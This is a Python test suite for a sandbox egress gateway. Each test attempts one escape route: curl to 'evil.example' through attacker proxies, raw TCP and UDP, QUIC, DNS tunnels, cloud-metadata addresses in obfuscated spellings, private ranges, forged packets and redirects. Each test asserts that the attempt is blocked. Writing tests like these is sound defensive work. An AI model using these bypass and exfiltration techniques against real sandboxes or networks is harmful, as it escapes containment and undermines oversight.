"""Getting out without the gateway, or to where nobody may."""

import re
import socket
import threading

from egress.conftest import python
from egress.table import attack
from harness import host


def short(answer):
    return str(answer.get("status") or answer.get("error") or answer)[:120]


@attack("unset-proxy-variables", "HTTPS to a host that is not on the list, without any proxy variable", "the firewall turns every TCP connection to the gateway, which goes by the name in the TLS hello")
def _(w):
    mark = w.mark()
    code = "say(attempt(get, 'evil.example', '/' + mark, at=evil))"
    answer = python(w.fenced, code, mark=mark, evil=w.net.evil)
    assert answer.get("status") == 403 and "evil.example" in answer["body"], answer
    w.nothing_arrived(mark)
    w.was_blocked(w.fenced, "evil.example", "not in allowlist")
    return f"403 {answer['body']}"


@attack("proxy-variables-to-elsewhere", "proxy variables that name a proxy of the attacker's", "the connection to that proxy is turned to the gateway like any other")
def _(w):
    mark = w.mark()
    command = f"https_proxy=http://{w.net.evil}:8080 http_proxy=http://{w.net.evil}:8080 curl -sS -m 5 -o /dev/null -w '%{{http_code}}' SCHEME://evil.example/{mark}"
    results = [w.fenced.run(command.replace("SCHEME", scheme)) for scheme in ("http", "https")]
    assert all(result["stdout"].strip()[-3:] != "200" for result in results), results
    w.nothing_arrived(mark)
    return f"curl saw {[result['stdout'].strip() for result in results]}"


@attack("raw-tcp", "bytes over TCP to ports of an address that is not allowed", "the gateway lets only HTTP, TLS and ports that a rule names pass")
def _(w):
    mark = w.mark()
    code = "say([reaches(evil, port, mark.encode()) for port in (21, 22, 25, 53, 80, 443, 853, 2525, 8080, 9000)])"
    answers = python(w.listed, code, mark=mark, evil=w.net.evil)
    assert not any(answer.get("got") for answer in answers), answers
    w.nothing_arrived(mark)
    return w.was_blocked(w.listed, w.net.evil)


@attack("other-port-of-an-allowed-host", "ports of an allowed host that its rule does not name", "a rule is for 80 and 443 unless it names ports")
def _(w):
    mark = w.mark()
    code = """
found = [attempt(get, 'api.test.example', '/' + mark, port=8443), attempt(plain, 'api.test.example', request('/' + mark, 'api.test.example:8080'), 8080)]
found += [reaches('api.test.example', port, mark.encode()) for port in (22, 2525, 9000)]
say(found)
"""
    answers = python(w.fenced, code, mark=mark)
    assert not any(answer.get("got") or answer.get("status") == 200 for answer in answers), answers
    w.nothing_arrived(mark)
    return short(answers[0])


@attack("port-not-of-the-rule", "443 of a host whose rule names only 8443", "the ports of a rule are all it allows")
def _(w):
    mark = w.mark()
    good = python(w.fenced, "say(get('ports.test.example', '/status/200?' + mark, port=8443))", mark=w.mark())
    assert good["status"] == 200, good
    answer = python(w.fenced, "say(attempt(get, 'ports.test.example', '/' + mark))", mark=mark)
    assert answer.get("status") == 403, answer
    w.nothing_arrived(mark)
    return short(answer)


@attack("server-that-speaks-first", "waiting for what a server says first on a port that is not allowed", "a connection on which the client is silent goes nowhere unless a rule names its port")
def _(w):
    code = """
def greeting(host):
    with tcp(host, 2525) as stream:
        return {'got': stream.recv(100)}
say([attempt(greeting, host) for host in ('raw.test.example', 'other.test.example', evil)])
"""
    allowed, *others = python(w.listed, code, evil=w.net.evil)
    assert "speaks first" in allowed.get("got", ""), allowed
    assert not any(other.get("got") for other in others), others
    return w.was_blocked(w.listed, w.net.evil)


@attack("address-literal-over-tls", "TLS to an address, without a server name and with the address for one", "without an allowed name there is no rule to go by")
def _(w):
    mark = w.mark()
    code = "say([attempt(https, evil, request('/' + mark, evil), sni=''), attempt(https, evil, request('/' + mark, 'api.test.example'), sni='')])"
    answers = python(w.fenced, code, mark=mark, evil=w.net.evil)
    assert all(answer.get("status") != 200 for answer in answers), answers
    w.nothing_arrived(mark)
    return short(answers[0])


@attack("address-literal-over-http", "HTTP to an address that is no host of the list", "the Host header is no allowed host")
def _(w):
    mark = w.mark()
    answer = python(w.fenced, "say(attempt(plain, evil, request('/' + mark, evil)))", mark=mark, evil=w.net.evil)
    assert answer.get("status") == 403, answer
    w.nothing_arrived(mark)
    return short(answer)


@attack("allowed-name-at-the-attackers-address", "the name of an allowed host said to an address of the attacker's, over HTTP and TLS", "under an allowlist the name decides where a connection goes, not the address")
def _(w):
    mark = w.mark()
    code = """
say([attempt(plain, 'other.test.example', request('/status/200?' + mark, 'other.test.example'), at=evil),
     attempt(get, 'other.test.example', '/status/200?' + mark, at=evil)])
"""
    python(w.fenced, code, mark=mark, evil=w.net.evil)
    arrived = w.arrived(mark)
    assert all(each["local"] == w.net.other for each in arrived), arrived
    return f"it went to {sorted({each['local'] for each in arrived})}, where the name is" if arrived else "nothing arrived"


@attack("ipv6", "IPv6 addresses, and IPv4 ones written as IPv6", "sandboxes have no IPv6; an IPv4 address in IPv6 form is the same packet")
def _(w):
    mark = w.mark()
    code = """
def six(host):
    with socket.socket(socket.AF_INET6) as stream:
        stream.settimeout(3)
        stream.connect((host, 80))
        stream.sendall(request('/' + mark, 'evil.example'))
        return read_response(stream)
say([attempt(six, host) for host in ('2001:db8::5', 'fd00::2', 'fe80::1', '::1', '::ffff:' + evil, '64:ff9b::' + evil)])
"""
    answers = python(w.fenced, code, mark=mark, evil=w.net.evil)
    assert all("error" in answer or answer["status"] == 403 for answer in answers), answers
    w.nothing_arrived(mark)
    return ", ".join(short(answer)[:40] for answer in answers[:2])


@attack("quic", "QUIC (UDP 443) to allowed and other hosts, under a list and with secrets alone", "UDP does not pass a list; with secrets its web ports are refused, so that clients come over TCP")
def _(w):
    mark = w.mark()
    code = "say([over_udp(at, 443, b'\\xc3\\0\\0\\0\\1' + mark.encode() * 80) for at in (evil, web)])"
    answers = [python(box, code, mark=mark, evil=w.net.evil, web=w.net.web) for box in (w.listed, w.sealed)]
    assert not any(answer.get("got") for each in answers for answer in each), answers
    w.nothing_arrived(mark)
    control = python(w.open, "say(over_udp(evil, 443, mark.encode()))", mark=w.mark(), evil=w.net.evil)
    assert control.get("got"), f"without a policy it should arrive: {control}"
    return f"{answers[0][0]['error']}; {answers[1][0]['error']}"


@attack("other-udp", "UDP to other ports, and more than fits one packet", "nothing but TCP passes a list")
def _(w):
    mark = w.mark()
    code = "say([over_udp(evil, port, mark.encode() * n, 1) for port, n in ((53, 1), (4433, 1), (9000, 1), (9000, 200))])"
    answers = python(w.listed, code, mark=mark, evil=w.net.evil)
    assert not any(answer.get("got") for answer in answers), answers
    w.nothing_arrived(mark)
    return answers[0]["error"]


@attack("dns-over-tls", "DoT (TCP and UDP 853) to a resolver outside", "no rule names that port")
def _(w):
    mark = w.mark()
    code = "say([reaches(evil, 853, mark.encode()), over_udp(evil, 853, mark.encode(), 1), attempt(get, 'evil.example', '/' + mark, port=853, at=evil)])"
    answers = python(w.listed, code, mark=mark, evil=w.net.evil)
    assert not any(answer.get("got") or answer.get("status") == 200 for answer in answers), answers
    w.nothing_arrived(mark)
    return short(answers[0])


@attack("dns-over-https", "DoH to a resolver that is not on the list, and to an allowed host; the address from there is then used", "the resolver is no allowed host; addresses from elsewhere are worth nothing, because the name of the connection decides")
def _(w):
    mark = w.mark()
    code = """
dns = question(mark + '.evil.example')
found = [attempt(get, 'evil.example', '/dns-query', {'Accept': 'application/dns-message'}, 'POST', dns, at=evil)]
# An allowed host may well answer; what it says is an address of the attacker's.
found.append(attempt(get, 'other.test.example', '/sink', {}, 'POST', b'whoami'))
found.append(attempt(get, 'evil.example', '/' + mark, at=evil))
say(found)
"""
    refused, _, after = python(w.fenced, code, mark=mark, evil=w.net.evil)
    assert refused.get("status") == 403 and after.get("status") == 403, (refused, after)
    w.nothing_arrived(mark)
    return short(refused)


@attack("icmp", "carrying data in pings", "nothing but TCP passes a list")
def _(w):
    ping = f"ping -c1 -W1 {w.net.evil}"
    assert w.open.run(ping)["exitCode"] == 0, "without a policy a ping should be answered"
    result = w.listed.run(ping)
    assert result["exitCode"] != 0, result
    return result["stdout"].strip().splitlines()[-1]


@attack("another-resolver", "asking a DNS server outside directly, over UDP and TCP", "UDP is dropped; TCP 53 comes to the gateway, which is no rule's port")
def _(w):
    mark = w.mark()
    code = "say([ask(mark + '.evil.example', server=(dns, 53), tcp=tcp_, timeout=2) for tcp_ in (False, True)])"
    answers = python(w.listed, code, mark=mark, dns=w.net.dns)
    assert all(answer["code"] == "silence" for answer in answers), answers
    assert not w.net.names.asked_for(mark)
    return answers[0]["why"]


def _spellings(address):
    a, b, c, d = (int(part) for part in address.split("."))
    number = a << 24 | b << 16 | c << 8 | d
    return [address, str(number), hex(number), f"0{a:o}.0{b:o}.0{c:o}.0{d:o}", f"{a}.{b}.{c << 8 | d}", f"{a}.{(b << 16) | (c << 8) | d}", f"0x{a:x}.{b}.0x{c:x}.{d}", f"[::ffff:{address}]", f"{address}."]


@attack("metadata-in-every-spelling", "link-local and metadata addresses as decimal, hexadecimal, octal, short, IPv6 and dotted, directly and through the proxy", "the address that is dialled is checked, however it was written; odd spellings are no host names. At 169.254.169.254 directly only what a sandbox is told about itself is there, which knows no such path")
def _(w):
    mark = w.mark()
    spelled = [*_spellings(w.net.forbidden["link-local"]), *_spellings("169.254.169.254"), "169.254.170.2", "100.100.100.200", "metadata.google.internal"]
    seen = {}
    for box in (w.open, w.sealed, w.fenced):
        code = """
import subprocess
def one(name, *more):
    done = subprocess.run(['curl', '-gsS', '-m', '2', '-o', '/dev/null', '-w', '%{http_code}', *more, f'http://{name}/{mark}'], capture_output=True, text=True)
    return done.stdout + ' ' + done.stderr.strip()[:80]
import concurrent.futures as f
with f.ThreadPoolExecutor(24) as pool:
    direct = list(pool.map(lambda name: one(name, '--noproxy', '*'), names))
    proxied = list(pool.map(lambda name: one(name, '-x', 'http://169.254.169.253:3128'), names))
say([direct, proxied])
"""
        for results in python(box, code, mark=mark, names=spelled):
            for name, result in zip(spelled, results, strict=True):
                assert not result.startswith("200"), (name, result)
                seen[result[:3]] = seen.get(result[:3], 0) + 1
    w.nothing_arrived(mark)
    return f"status and how often: {seen}"


@attack("private-ranges", "an address of every private and special range, where servers of ours wait", "the firewall and the gateway know the ranges")
def _(w):
    mark = w.mark()
    code = """
import concurrent.futures as f
targets = [(at, port) for at in addresses for port in (80, 443, 9000)]
with f.ThreadPoolExecutor(16) as pool:
    say(list(pool.map(lambda target: reaches(*target, request('/' + mark, target[0]), 3), targets)))
"""
    for box in (w.open, w.sealed, w.fenced):
        answers = python(box, code, mark=mark, addresses=list(w.net.forbidden.values()))
        assert all("200 OK" not in str(answer.get("got")) for answer in answers), answers
    w.nothing_arrived(mark)
    return f"{len(w.net.forbidden)} ranges, 3 sandboxes: nothing came through"


def star(w, *ports):
    """Whose list allows everything."""
    return w.box("star", egress={"mode": "allowlist", "allow": [{"host": "*"}, {"host": w.net.forbidden["10/8"]}, {"host": "*", "ports": [9000, 8098, 3128]}]})


@attack("private-address-on-the-list", "a list that names a private address, or everything", "what no sandbox may reach no list can allow")
def _(w):
    mark = w.mark()
    box = star(w)
    control = python(box, "say(attempt(get, 'evil.example', '/status/200'))")
    assert control.get("status") == 200, control
    code = """
say([attempt(plain, at, request('/' + mark, at)) for at in addresses]
    + [reaches(at, 9000, mark.encode()) for at in addresses] + [through(f'{at}:80') for at in addresses])
"""
    answers = python(box, code, mark=mark, addresses=list(w.net.forbidden.values())[:3])
    assert all(answer.get("status") in (403, None) and not answer.get("got") for answer in answers), answers
    w.nothing_arrived(mark)
    return w.was_blocked(box, w.net.forbidden["10/8"], "private")


def listener():
    """On every address of the host; accepted connections are added to a list."""
    server, accepted = socket.create_server(("0.0.0.0", 0)), []

    def serve():
        while True:
            try:
                client, _ = server.accept()
            except OSError:
                return
            accepted.append(client.getpeername())
            client.close()

    threading.Thread(target=serve, daemon=True).start()
    return server, accepted


def host_addresses():
    lines = host.command_lines("ip", "-o", "-4", "addr")
    return sorted({line.split()[3].split("/")[0] for line in lines})


@attack("services-of-the-host", "the host's own services, at all of its addresses, public ones too, directly, through the proxy and by a name", "the firewall's input rules; the gateway asks the kernel whether an address is the host's own before it dials")
def _(w):
    server, accepted = listener()
    port = server.getsockname()[1]
    w.net.names.records["here.test.example"] = [w.net.host]
    everything = {"mode": "allowlist", "allow": [{"host": "*", "ports": [80, 443, port]}]}
    code = """
say([[reaches(at, port, request('/', at), 3) for at in addresses], [through(f'{at}:{port}').get('status') for at in addresses + ['localhost', 'here.test.example']],
     attempt(get, 'here.test.example', '/', port=port)])
"""
    try:
        with w.api.create(egress=everything) as wide:
            wide.write("/tmp/probe.py", w.open.read("/tmp/probe.py"))
            for box in (w.open, w.sealed, w.fenced, wide):
                direct, proxied, named = python(box, code, addresses=host_addresses(), port=port)
                assert 200 not in proxied, proxied
                assert named.get("status") != 200, named
            assert not accepted, f"a service of the host was reached: {accepted}"
            return f"{len(host_addresses())} addresses, no connection; the proxy answers {proxied}"
    finally:
        server.close()


@attack("the-gateway-itself", "CONNECT through the gateway to itself, to its own ports and to the resolver", "its own addresses are among those nobody may reach")
def _(w):
    targets = ["169.254.169.253:3128", "169.254.169.253:53", "127.0.0.1:3128", "127.0.0.1:80", "localhost:3128", "0.0.0.0:3128", "10.200.0.1:80", "10.200.0.2:3128", "[::1]:3128"]
    seen = {}
    for box in (w.fenced, w.sealed, star(w)):
        answers = python(box, "say([through(target) for target in targets])", targets=targets)
        assert all(answer.get("status", 0) >= 400 for answer in answers), answers
        seen.update({target: answer["status"] for target, answer in zip(targets, answers, strict=True)})
    return str(seen)[:150]


def outside_addresses():
    lines = host.command_lines("ip", "-4", "route", "show", "table", "all")
    return sorted({address for line in lines for address in re.findall(r"\b198\.1[89]\.\d+\.\d+\b", line)})


@attack("sibling-sandboxes", "another sandbox's port, by its address outside, by a name for it, and through the proxy", "links of sandboxes are kept apart, and the range they have is one nobody may reach")
def _(w):
    mark = w.mark()
    w.open.run("(cd /tmp && nohup python3 -m http.server 8098 --bind 0.0.0.0 >/tmp/served 2>&1 &); for i in $(seq 50); do curl -sf 127.0.0.1:8098 >/dev/null && exit 0; sleep 0.1; done; exit 1")
    addresses = outside_addresses()
    assert addresses, "sandboxes have no addresses outside?"
    w.net.names.records["private.test.example"] = addresses[:4]
    code = """
import concurrent.futures as f
with f.ThreadPoolExecutor(16) as pool:
    direct = list(pool.map(lambda at: reaches(at, 8098, request('/' + mark, at), 2), addresses))
say([direct, [through(f'{at}:8098').get('status') for at in addresses[:6] + ['private.test.example']]])
"""
    for box in (w.sealed, w.fenced, star(w)):
        direct, proxied = python(box, code, mark=mark, addresses=addresses)
        assert all("HTTP" not in str(each.get("got")) or "403" in str(each["got"]) for each in direct), direct
        assert all(status >= 400 for status in proxied), proxied
    assert mark not in w.open.out("cat /tmp/served")
    return f"{len(addresses)} addresses, nobody came; the proxy answers {proxied[:3]}"


@attack("arp-and-routes", "as root inside: addresses, routes, neighbours and rules of one's own", "root of a container has no rights over its network; that of a machine changes only its own side of the link")
def _(w):
    mark = w.mark()
    commands = [
        "ip route replace default via 10.200.0.9", "ip addr add 10.200.0.77/24 dev eth0", "ip addr add 198.18.0.9/32 dev eth0",
        "ip neigh replace 10.200.0.1 lladdr 02:00:00:00:00:99 dev eth0", "ip link set eth0 address 02:00:00:00:00:98",
        "ip link set eth0 promisc on", "ip route add 198.51.100.0/24 dev eth0", "sysctl -w net.ipv4.ip_forward=1", "nft flush ruleset",
        "ip link add dummy0 type dummy", "ip tuntap add mode tun tun9",
    ]
    with w.api.create(egress=w.policy) as box:
        box.write("/tmp/probe.py", w.open.read("/tmp/probe.py"))
        codes = [box.run(f"sudo -n {command}")["exitCode"] for command in commands]
        code = """
def spoofed(source):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_IP, 15, 1)
        sender.bind((source, 0))
        sender.sendto(mark.encode(), (evil, 9000))
say([attempt(spoofed, each) for each in ('10.200.0.77', '198.18.0.9', '10.200.0.2')] + [reaches(evil, 9000, mark.encode(), 2)])
"""
        python(box, code, mark=mark, evil=w.net.evil)
        w.nothing_arrived(mark)
    return f"{sum(code != 0 for code in codes)} of {len(codes)} commands were refused; nothing arrived"


@attack("forged-packets", "packets made by hand: raw sockets, other source addresses, other protocols", "no right to raw sockets; what has another source than the sandbox's is dropped outside")
def _(w):
    mark = w.mark()
    code = """
import subprocess
program = '''
import socket, struct, sys
data = MARK.encode()
udp = struct.pack('!HHHH', 4000, 9000, 8 + len(data), 0) + data
for source in ('198.51.100.200', '10.200.0.2', '198.18.0.77', EVIL):
    for make in (lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 255), lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0800)):
        try:
            raw = make()
            head = struct.pack('!BBHHHBBH4s4s', 69, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(EVIL))
            if raw.family == socket.AF_INET:
                raw.sendto(head + udp, (EVIL, 0))
            else:
                raw.bind(('eth0', 0))
                raw.send(bytes.fromhex('027761720001') + bytes.fromhex('027761720002') + b'\\\\x08\\\\0' + head + udp)
            print('sent')
        except OSError as error:
            print(error)
'''.replace('MARK', repr(mark)).replace('EVIL', repr(evil))
say(subprocess.run(['sudo', '-n', 'python3', '-c', program], capture_output=True, text=True).stdout.splitlines())
"""
    answers = python(w.listed, code, mark=mark, evil=w.net.evil)
    w.nothing_arrived(mark)
    return ", ".join(sorted(set(answers)))[:150]


@attack("a-namespace-of-its-own", "a network namespace made inside", "it has no link")
def _(w):
    mark = w.mark()
    result = w.fenced.run(f"unshare -Urn sh -c 'ip link set lo up; curl -sS -m 3 http://{w.net.evil}/{mark}' 2>&1; sudo -n unshare -n curl -sS -m 3 http://{w.net.evil}/{mark} 2>&1")
    assert "HTTP" not in result["stdout"]
    w.nothing_arrived(mark)
    return result["stdout"].strip().splitlines()[-1][:120]


@attack("no-network-at-all", "everything above from a sandbox without a network", "its link drops all; the resolver and the proxy refuse")
def _(w):
    mark = w.mark()
    code = """
say([attempt(get, 'api.test.example', '/' + mark, at=web), reaches(evil, 9000, mark.encode(), 2), over_udp(evil, 9000, mark.encode(), 1),
     ask(mark + '.test.example'), attempt(lambda: through('api.test.example:443')), attempt(plain, web, request('/' + mark, 'api.test.example'))])
"""
    answers = python(w.closed, code, mark=mark, evil=w.net.evil, web=w.net.web)
    over_tls, tcp, udp, name, proxied, plain = answers
    assert "error" in over_tls and "error" in tcp and "error" in udp and "error" in plain, answers
    assert name["code"] in (5, "silence") and (proxied.get("status") or 500) >= 400, answers
    w.nothing_arrived(mark)
    assert not w.net.names.asked_for(mark)
    return f"{over_tls['error'][:60]}; the proxy: {short(proxied)}"


@attack("redirect-to-a-private-address", "an allowed host that redirects to private addresses", "following it is another request, to where nobody may")
def _(w):
    mark = w.mark()
    seen = []
    for at in (w.net.forbidden["10/8"], w.net.forbidden["link-local"], "127.0.0.1", "localhost"):
        for box in (w.fenced, w.sealed):
            result = box.run(f"curl -sSL -m 5 -o /dev/null -w '%{{http_code}}' 'https://api.test.example/redirect?to=http://{at}/{mark}' 2>&1")
            assert "200" not in result["stdout"], result
            seen.append(result["stdout"].strip()[-60:])
    arrived = [each for each in w.arrived(mark) if not each.get("path", "").startswith("/redirect")]
    assert not arrived, arrived
    return seen[0]


@attack("redirect-to-another-host", "an allowed host that redirects to one that is not, with what it wants to carry", "following it is another request, which is refused")
def _(w):
    mark = w.mark()
    result = w.fenced.run(f"curl -sSL -m 5 -o /dev/null -w '%{{http_code}}' 'https://api.test.example/redirect?to=https://evil.example/{mark}' 2>&1")
    assert "200" not in result["stdout"]
    arrived = [each for each in w.arrived(mark) if not each.get("path", "").startswith("/redirect")]
    assert not arrived, arrived
    return result["stdout"].strip()[-80:]
